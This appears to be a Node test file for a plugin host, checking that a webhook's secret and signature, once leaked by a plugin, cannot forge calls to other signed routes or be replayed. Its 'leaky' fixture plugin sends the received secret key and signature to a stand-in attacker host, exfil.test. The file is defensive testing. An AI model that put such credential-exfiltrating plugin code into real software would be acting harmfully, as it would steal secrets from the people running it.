// Signed routes bound to their webhook. A plugin receives its scheduled webhook's secret
// (Zengine's X-Zengine-Webhook-Key) and signature; here the "leaky" plugin of workspace
// "forge" sends both to the attacker's server. With them it cannot open another signed route
// of its workspace (the "vault" plugin's), neither with the secret nor with the signature it
// saw, and it cannot replay that signature at its own route: the host spent it when it
// delivered the call. A signature made with the right secret opens its route once; a replay
// is refused with 401 UNAUTHORIZED on this host and on another host sharing the store. The
// scheduler's own calls, a retry (signed afresh) and two runs within one second included,
// are accepted; the replay memory holds only the tolerance window; a neighbour in another
// workspace is served promptly throughout.
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { after, before, test } from 'node:test';
import { createVirtualClock } from '../../runtime/clock.ts';
import { SIGNATURE_TOLERANCE_S } from '../../runtime/schedule/signature.ts';
import { CLOCK_SKEW_MS } from '../../runtime/store/seen-signatures.ts';
import { startHost, type TestHost } from '../helpers/host.ts';
import { startStub, type StubServer } from '../helpers/stub-server.ts';

const clock = createVirtualClock(Date.parse('2030-01-01T00:00:00Z'));
const BASE = '/api/v1/workspaces/forge/scheduled-webhooks';
const PROMPT_MS = 1000;
let h: TestHost;
let exfil: StubServer;

// Sends what the scheduler handed it to the attacker. With ?flaky it answers 500 to a call
// signed at the very second it was scheduled for (a first attempt), so the retry succeeds.
const LEAKY = `
exports.run = function (e) {
  var h = e.request.headers, body = e.request.body || {};
  var leak = { key: h['x-zengine-webhook-key'] || null, signature: h['x-plughost-signature'] || null, body: JSON.stringify(body), query: e.request.query };
  var signedAt = Number((/t=(\\d+)/.exec(leak.signature || '') || [])[1]);
  var firstAttempt = body.data && Date.parse(body.data.scheduled.replace(' ', 'T') + 'Z') / 1000 === signedAt;
  fetch('http://exfil.test/leak', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(leak) }).then(function () {
    if (e.request.query.flaky && firstAttempt) e.response.status(500).send('not yet');
    else e.response.status(200).send('leaky served');
  }, function (err) { e.response.status(502).send(String(err)); });
};
`;
const VAULT = 'exports.run = function (e) { e.response.json({ vault: e.request.params.pluginRoute }); };\n';
const CALM = 'exports.run = function (e) { e.response.json({ calm: true }); };\n';

interface Leak { key: string; signature: string; body: string; query: Record<string, string> }

before(async () => {
  exfil = await startStub();
  h = await startHost({ clock, egressMap: { 'exfil.test': exfil.url } });
  const plugins = [
    ['leaky', 'lk', LEAKY, [{ route: 'x', main: 'plugin.js', access: 'signed' }], ['exfil.test']],
    ['vault', 'vt', VAULT, [{ route: 'y', main: 'plugin.js', access: 'signed' }, { route: 'z', main: 'plugin.js', access: 'signed' }], []],
    ['calm', 'calm', CALM, [{ route: 'run', main: 'plugin.js', access: 'public' }], []],
  ] as const;
  for (const [name, namespace, main, services, hosts] of plugins) {
    const pub = await h.publish({ 'plugin.json': { name, version: '1.0.0', namespace, services, permissions: { hosts } }, 'plugin.js': main });
    assert.equal(pub.status, 201, JSON.stringify(pub.body));
  }
  for (const [ws, installs] of [['forge', ['leaky', 'vault']], ['neighbour', ['calm']]] as const) {
    assert.equal((await h.api('POST', '/api/v1/workspaces', { id: ws, name: ws })).status, 201);
    for (const plugin of installs) assert.equal((await h.api('POST', `/api/v1/workspaces/${ws}/installations`, { plugin })).status, 201);
  }
});
after(async () => {
  await h.close();
  await exfil.close();
});

const sign = (key: string, body: string, t = Math.floor(clock.now() / 1000)) => `t=${t},v1=${createHmac('sha256', key).update(`${t}.${body}`).digest('hex')}`;

const post = async (base: string, path: string, signature: string, body: string) => {
  const res = await fetch(`${base}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-plughost-signature': signature }, body });
  return { status: res.status, text: await res.text() };
};

const assertRefused = (res: { status: number; text: string }, why: string) => {
  assert.equal(res.status, 401, `${why}: ${res.text}`);
  assert.equal(JSON.parse(res.text).error.code, 'UNAUTHORIZED', why);
};

const neighbourServed = async () => {
  const started = performance.now();
  const res = await fetch(`${h.url}/workspaces/neighbour/calm/run`);
  const ms = performance.now() - started;
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { calm: true });
  assert.ok(ms < PROMPT_MS, `the neighbour took ${Math.round(ms)} ms`);
};

const create = async (url: string, extra: Record<string, unknown> = {}) => {
  const res = await h.api('POST', BASE, { url, frequency: 'daily', start: '2099-01-01 09:00', timezone: 'UTC', ...extra });
  assert.equal(res.status, 201, JSON.stringify(res.body));
  return res.body as { id: string; secretKey: string };
};
const runNow = async (id: string) => {
  const res = await h.api('POST', `${BASE}/${id}/run`);
  assert.equal(res.status, 200, JSON.stringify(res.body));
  return res.body;
};
const leaked = async (n: number): Promise<Leak> => JSON.parse((await exfil.waitForRequests(n))[n - 1]!.body);

let ofX: { id: string; secretKey: string };
let ofY: { id: string; secretKey: string };
let leak: Leak;

test('the secret and signature a plugin sees open no other signed route of its workspace', async () => {
  ofX = await create('/workspaces/forge/lk/x');
  ofY = await create('/workspaces/forge/vt/y');
  const ran = await runNow(ofX.id);
  assert.equal(ran.status, 'succeeded', JSON.stringify(ran.run));
  leak = await leaked(1);
  assert.equal(leak.key, ofX.secretKey, 'the plugin saw its webhook\'s key (Zengine\'s contract)');

  const forged = JSON.stringify({ data: { scheduled: 'now', nextScheduled: null }, scheduled: { id: ofY.id } });
  assertRefused(await post(h.url, '/workspaces/forge/vt/y', sign(leak.key, forged), forged), 'a body signed with route x\'s secret, at route y');
  assertRefused(await post(h.url, '/workspaces/forge/vt/y', leak.signature, leak.body), 'route x\'s delivered signature, at route y');
  assertRefused(await post(h.url, '/workspaces/forge/vt/z', sign(leak.key, forged), forged), 'at route z, which no webhook targets');
  assertRefused(await post(h.url, '/workspaces/forge/vt/z', sign(ofY.secretKey, forged), forged), 'route y\'s own secret, at route z of the same plugin');
  await neighbourServed();
});

test('a delivered signature cannot be replayed, not even at its own route', async () => {
  assertRefused(await post(h.url, '/workspaces/forge/lk/x', leak.signature, leak.body), 'the signature the scheduler delivered, replayed');
  await neighbourServed();
});

test('a signature of the right webhook opens its route once; the replay is refused', async () => {
  const body = JSON.stringify({ data: { scheduled: 'by hand', nextScheduled: null }, scheduled: { id: ofY.id } });
  const signature = sign(ofY.secretKey, body);
  const first = await post(h.url, '/workspaces/forge/vt/y', signature, body);
  assert.equal(first.status, 200, first.text);
  assert.deepEqual(JSON.parse(first.text), { vault: 'y' });
  assertRefused(await post(h.url, '/workspaces/forge/vt/y', signature, body), 'the same signature again');
  // Another body, or the same body a second later, is another signature.
  const later = sign(ofY.secretKey, body, Math.floor(clock.now() / 1000) + 1);
  assert.equal((await post(h.url, '/workspaces/forge/vt/y', later, body)).status, 200);
  await neighbourServed();
});

test('the replay memory is in the store: another host sharing it refuses the replay too', async () => {
  const second = await startHost({ clock, dataDir: h.dataDir, egressMap: { 'exfil.test': exfil.url } });
  try {
    const body = JSON.stringify({ data: { scheduled: 'cluster', nextScheduled: null }, scheduled: { id: ofY.id } });
    const signature = sign(ofY.secretKey, body);
    assert.equal((await post(h.url, '/workspaces/forge/vt/y', signature, body)).status, 200);
    assertRefused(await post(second.url, '/workspaces/forge/vt/y', signature, body), 'replayed at the other host');
    const other = sign(ofY.secretKey, body, Math.floor(clock.now() / 1000) - 1);
    assert.equal((await post(second.url, '/workspaces/forge/vt/y', other, body)).status, 200);
    assertRefused(await post(h.url, '/workspaces/forge/vt/y', other, body), 'replayed back at the first host');
  } finally {
    await second.close();
  }
  await neighbourServed();
});

test('the scheduler\'s own calls are accepted: two runs in one second, and a retry signed afresh', async () => {
  for (let i = 0; i < 2; i++) {
    const ran = await runNow(ofY.id);
    assert.equal(ran.status, 'succeeded', JSON.stringify(ran.run));
    assert.equal(ran.run.httpStatus, 200);
  }
  const seen = exfil.requests.length;
  const flaky = await create('/workspaces/forge/lk/x?flaky=1', { start: '2030-01-01 06:00' });
  const first = h.host.events.waitFor('occurrence:finished', (info) => info.scheduleId === flaky.id);
  await clock.set(Date.parse('2030-01-01T06:00:00Z'));
  assert.equal((await first)[0].status, 'pending', 'the first attempt failed and a retry is due');
  const retried = h.host.events.waitFor('occurrence:finished', (info) => info.scheduleId === flaky.id);
  await clock.advance(h.host.options.schedules.backoffMs);
  const [info] = await retried;
  assert.equal(info.status, 'succeeded');
  assert.equal(info.attempt, 2);
  const runs = (await h.api('GET', `/api/v1/workspaces/forge/runs?kind=webhook&schedule=${flaky.id}`)).body.data;
  assert.deepEqual(runs.map((r: { trigger: string; status: string }) => `${r.trigger}/${r.status}`).sort(), ['retry/succeeded', 'schedule/failed']);
  const [attempt1, attempt2] = [await leaked(seen + 1), await leaked(seen + 2)];
  assert.equal(attempt1.body, attempt2.body, 'a retry sends the same body');
  assert.notEqual(attempt1.signature, attempt2.signature, 'a retry is signed afresh');
  await neighbourServed();
});

test('the replay memory holds only the tolerance window', async () => {
  const old = JSON.stringify({ data: { scheduled: 'old', nextScheduled: null }, scheduled: { id: ofY.id } });
  const oldSignature = sign(ofY.secretKey, old);
  assert.equal((await post(h.url, '/workspaces/forge/vt/y', oldSignature, old)).status, 200);
  for (let i = 1; i <= 3; i++) assert.equal((await post(h.url, '/workspaces/forge/vt/y', sign(ofY.secretKey, old + ' '.repeat(i)), old + ' '.repeat(i))).status, 200);
  // The retry's two attempts (30 s ago and now) and these four.
  assert.equal(await h.host.store.seenSignatures.count(), 6);
  await clock.advance(SIGNATURE_TOLERANCE_S * 1000 + CLOCK_SKEW_MS + 1000);
  await h.host.scheduler.idle();
  // Stale now, so refused without the memory; and the next accepted signature purges the expired rows.
  assertRefused(await post(h.url, '/workspaces/forge/vt/y', oldSignature, old), 'a signature older than the tolerance');
  const body = JSON.stringify({ data: { scheduled: 'new', nextScheduled: null }, scheduled: { id: ofY.id } });
  assert.equal((await post(h.url, '/workspaces/forge/vt/y', sign(ofY.secretKey, body), body)).status, 200);
  assert.equal(await h.host.store.seenSignatures.count(), 1, 'only the signature of the current window is held');
  await neighbourServed();
});
